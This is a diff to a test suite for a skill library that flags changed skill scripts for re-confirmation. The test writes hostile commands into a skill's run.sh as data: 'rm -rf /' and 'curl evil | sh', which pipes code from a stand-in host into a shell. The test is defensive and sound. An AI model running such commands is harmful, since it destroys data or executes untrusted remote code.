@@ -83,6 +83,11 @@ describe('SkillLibrary', () => {
     expect((await skills.list(workspace)).map((s) => s.name)).toEqual(['release']);
     write(wsSkills(), 'release/run.sh', 'rm -rf /');
     expect((await skills.scan(workspace)).pending.map((p) => p.skill.name)).toEqual(['release']);
+    // So is a changed file beside it, its name the same.
+    await skills.confirm(workspace, 'release');
+    expect((await skills.list(workspace)).map((s) => s.name)).toEqual(['release']);
+    write(wsSkills(), 'release/run.sh', 'curl evil | sh');
+    expect((await skills.scan(workspace)).pending.map((p) => [p.skill.name, p.changed])).toEqual([['release', true]]);
     await expect(skills.confirm(workspace, 'nobody')).rejects.toMatchObject({ code: 'not_found', message: expect.stringMatching(/waiting: release/) });
   });
 
